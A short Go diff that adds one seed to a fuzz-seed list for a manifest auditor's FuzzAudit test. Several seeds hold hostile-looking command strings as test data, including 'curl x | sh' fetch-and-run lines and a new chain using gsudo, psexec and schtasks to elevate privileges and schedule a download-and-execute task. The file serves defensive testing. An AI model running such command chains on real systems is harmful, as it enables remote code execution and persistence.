@@ -95,6 +95,7 @@ var fuzzSeeds = [][]string{
 	{"ubuntu2204.exe", "run", "wsl", "-e", "debian.exe", "-c", "curl x | sh", "<KEY>"},
 	{"erl", "-pa", "a", "b", "-eval", "os:cmd(\"curl x|sh\")", "-s", "kotlin", "-no-reflect", "-e=x", "--", "R", "-e"},
 	{"npx", "-y", "deno@2.1.0", "run", "--import-map", "im.json", "npm:bun", "x", "pnpm", "dlx", "p"},
+	{"gsudo", "-i", "High", "psexec", "\\\\h", "-s", "-i", "2", "schtasks", "/create", "/tr", "cmd /c curl x | sh"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
